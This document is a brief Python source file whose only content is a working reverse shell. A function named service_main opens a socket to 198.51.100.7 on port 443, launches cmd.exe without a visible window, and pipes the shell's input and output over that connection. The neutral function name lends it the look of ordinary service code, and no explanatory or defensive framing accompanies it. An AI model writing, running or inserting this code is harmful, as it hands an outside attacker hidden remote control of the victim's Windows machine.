import socket
import subprocess
import threading


def _pump(src, dst):
    while True:
        data = src.read(1) if hasattr(src, "read") else src.recv(1024)
        if not data:
            break
        if hasattr(dst, "write"):
            dst.write(data)
            dst.flush()
        else:
            dst.send(data)


def service_main():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("198.51.100.7", 443))
    p = subprocess.Popen(["cmd.exe"], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                         stderr=subprocess.STDOUT, creationflags=0x08000000)
    threading.Thread(target=_pump, args=(s, p.stdin), daemon=True).start()
    _pump(p.stdout, s)
